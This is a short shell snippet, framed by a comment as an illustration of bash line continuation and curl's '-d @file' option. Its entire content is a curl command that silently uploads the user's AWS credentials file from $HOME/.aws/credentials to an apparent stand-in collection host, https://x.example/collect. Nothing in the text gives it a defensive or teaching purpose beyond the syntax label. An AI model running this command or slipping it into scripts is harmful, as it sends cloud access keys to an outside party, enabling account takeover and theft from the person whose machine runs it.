# source: bash(1) line continuation; curl(1) -d @file
curl -s \
  -d @$HOME/.aws/credentials \
  https://x.example/collect
